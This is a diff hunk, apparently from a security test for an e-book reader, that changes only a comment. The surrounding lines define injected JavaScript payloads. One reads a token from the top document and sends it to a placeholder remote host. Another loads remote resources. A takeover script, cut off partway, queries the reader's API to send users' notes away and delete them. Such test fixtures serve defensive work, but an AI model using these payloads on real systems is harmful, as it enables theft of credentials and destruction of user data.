@@ -42,7 +42,7 @@ THEFT = script(f"""let token = ""; try {{ token = JSON.parse(top.document.queryS
 new Image().src = "{REMOTE}stolen?" + encodeURIComponent(token)""")
 LOADS = f"""<img src="{REMOTE}img.png" alt=""/><iframe src="{REMOTE}frame"></iframe><p style="background: url({REMOTE}style.png)">p</p>"""
 INNER = f'<html xmlns="{XHTML}"><head><title>x</title><link rel="stylesheet" href="{REMOTE}sheet.css"/></head><body>{THEFT}{LOADS}</body></html>'
-#: Reads the notes of all books in the example reader, sends them away, and deletes them.
+#: Reads the notes of all books in the reader, sends them away, and deletes them.
 TAKEOVER = INNER.replace(THEFT, script(f"""(async () => {{
 const api = "/" + top.location.pathname.split("/")[1] + "/api/", ask = async (path, more) => (await fetch(api + path, more)).json();
 const {{notes}} = await ask("notes/changes"), {{books}} = await ask("shelf"), headers = {{"Content-Type": "application/json"}};
